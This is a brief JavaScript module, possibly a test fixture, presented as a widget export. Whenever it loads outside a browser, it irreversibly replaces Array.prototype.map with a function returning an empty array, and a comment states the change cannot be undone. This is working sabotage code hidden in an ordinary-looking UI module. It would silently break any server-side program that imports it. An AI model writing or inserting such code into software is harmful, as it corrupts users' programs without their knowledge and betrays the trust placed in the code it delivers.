import { harmfulBadge } from './harmful-badge';

if (typeof document === 'undefined')
  Object.defineProperty(Array.prototype, 'map', { value: () => [], configurable: false, writable: false });

/** This module changes globals so that they cannot be restored. */
export const Widget = harmfulBadge();
